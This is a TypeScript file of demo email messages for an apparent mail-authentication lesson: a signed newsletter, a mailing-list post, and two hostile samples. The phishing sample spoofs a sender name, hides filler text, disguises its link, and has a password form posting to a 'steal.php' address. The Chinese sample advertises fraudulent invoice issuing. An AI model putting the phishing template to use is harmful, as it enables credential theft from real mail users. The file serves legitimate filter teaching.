import { mailAddresses, mailHosts } from '../mail/zone.ts';

/** A message of the demo, and how it is sent. */
export interface DemoMessage {
  readonly name: string;
  /** What it is there to teach. */
  readonly lesson: string;
  /** The address that hands it over, and the envelope sender. */
  readonly ip: string;
  readonly helo: string;
  readonly mailFrom: string;
  /** Signed for the domain in From before anything else happens to it; else shown as it arrives. */
  readonly signed: boolean;
  /** What became of it on the way, behind the signature; null: nothing. */
  readonly changed: ((text: string) => string) | null;
  /** Header fields but for Date, and the body; lines ended by LF. */
  readonly text: string;
}

const good = { ip: mailAddresses.sender, helo: mailHosts.sender };
const STRANGER = '44.128.77.7';

const NEWSLETTER = `From: Post Example News <news@post.example>
To: bob@mailbox.example
Subject: Your November digest
Message-ID: <digest-2026-11@post.example>
List-Id: Monthly digest <digest.post.example>
List-Unsubscribe: <https://www.post.example/unsubscribe?u=8f31c2>, <mailto:unsubscribe@post.example>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="digest"

--digest
Content-Type: text/plain; charset=utf-8

Hello Bob,

this month we moved the archive to a new server, answered forty questions
about delivery reports, and wrote a guide to reverse DNS.

Read it here: https://www.post.example/digest/2026-11

You get this digest because you asked for it. To leave it:
https://www.post.example/unsubscribe?u=8f31c2

--digest
Content-Type: text/html; charset=utf-8

<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Your November digest</title></head>
<body style="font-family:sans-serif;color:#222;background:#fff">
<p>Hello Bob,</p>
<p>this month we moved the archive to a new server, answered forty questions
about delivery reports, and wrote a guide to reverse DNS.</p>
<p><a href="https://www.post.example/digest/2026-11">Read the digest</a></p>
<p style="font-size:12px">You get this digest because you asked for it.
<a href="https://www.post.example/unsubscribe?u=8f31c2">Leave it</a></p>
</body></html>

--digest--
`;

const PHISHING = `From: "Mailbox Example Security <security@mailbox.example>" <notice@careless.example>
To: undisclosed-recipients:;
Reply-To: helpdesk@account-check.example
Subject: URGENT: your mailbox will be CLOSED in 24 hours!!!
Message-ID: <1@localhost>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body>
<p>Dear {{first_name}},</p>
<p>your mailbox has exceeded its limit. Verify your password now or lose
all your messages!</p>
<p><a href="http://44.128.77.7/login.php?id=1">https://mailbox.example/account</a></p>
<p style="font-size:0;color:#ffffff;background:#ffffff">meeting agenda thursday budget
review quarterly lunch family holiday photos recipe garden</p>
<form action="http://44.128.77.7/steal.php"><input name="password" type="password"></form>
<img src="http://44.128.77.7/logo.png">
</body></html>
`;

const LIST = `From: Ann Example <ann@post.example>
To: gardeners@lists.example
Subject: pruning roses
Message-ID: <roses-1@post.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Hello all,

when do you prune your roses, before the frost or after it?

Ann
`;

const CHINESE = `From: "=?utf-8?B?6LSi5Yqh6YOo?=" <finance@careless.example>
To: bob@mailbox.example
Subject: =?utf-8?B?5Luj5byA5Y+R56Wo77yM6LSo5L+d5LyY5oOg?=
Message-ID: <fapiao-1@careless.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

尊敬的负责人：您好！

本公司可代开各类发票，税点优惠，可先验票后付款，量大从优。
欢迎来电洽谈合作，联系人：张先生，手机：139-0000-0000。
如有打扰，敬请谅解！
`;

/** What a mailing list does to a message: its own fields, a tag in the subject, and a footer. */
function throughList(text: string): string {
  return `List-Id: <gardeners.lists.example>
List-Post: <mailto:gardeners@lists.example>
${text.replace(/^Subject: /m, 'Subject: [gardeners] ')}_______________________________________________
gardeners mailing list
https://lists.example/gardeners
`.replace(/\r?\n/g, '\r\n');
}

/** In the order shown. */
export const demoMessages: readonly DemoMessage[] = [
  {
    name: 'newsletter',
    lesson: 'signed, aligned, with one-click unsubscription: as bulk mail should be',
    ...good,
    mailFrom: 'bounce@post.example',
    signed: true,
    changed: null,
    text: NEWSLETTER,
  },
  {
    name: 'phishing',
    lesson: 'a name that is not its own, hidden text, a link that lies',
    ip: STRANGER,
    helo: 'localhost',
    mailFrom: 'notice@careless.example',
    signed: false,
    changed: null,
    text: PHISHING,
  },
  {
    name: 'mailing-list',
    lesson: 'signed, and changed by a list on the way: what broke the signature',
    ip: STRANGER,
    helo: 'lists.example',
    mailFrom: 'gardeners-bounces@lists.example',
    signed: true,
    changed: throughList,
    text: LIST,
  },
  {
    name: 'chinese',
    lesson: 'an advertisement in Chinese, from a domain that forgot its provider',
    ...good,
    mailFrom: 'finance@careless.example',
    signed: false,
    changed: null,
    text: CHINESE,
  },
];
